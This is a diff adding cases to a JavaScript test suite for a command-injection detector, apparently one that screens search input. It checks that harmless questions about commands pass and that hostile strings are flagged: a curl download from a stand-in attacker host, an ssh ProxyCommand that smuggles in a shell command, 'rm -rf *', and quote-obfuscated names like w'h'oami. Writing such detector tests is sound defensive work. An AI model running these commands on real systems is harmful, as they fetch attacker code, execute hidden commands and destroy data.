@@ -222,6 +222,15 @@ describe('command injection', () => {
     passes(['rock & roll -live', 'a; b - c', 'foo | bar', ';frob']);
   });
 
+  it('passes searches for commands, quotations and examples for an interface', () => {
+    passes([
+      'tar -xzf explained',
+      'What does `chmod -R dir` do',
+      "curl -X PUT https://api.shop.example/v2/items -d '{}'",
+    ]);
+    sees('plain_command', ['curl https://evil.test/a -o /tmp/a', 'ssh -o ProxyCommand="sh -c id" x', 'rm -rf *']);
+  });
+
   it('sees a lone program whose name is taken apart by quotes', () => {
     sees('hidden_command', ["w'h'oami", 'un"am"e', "who''ami", "if'c'onfig"]);
     passes(["rock 'n' roll", "O'Neil's", "l''s", 'a"b"c', "it's 'so' nice", 'the "top"ics']);
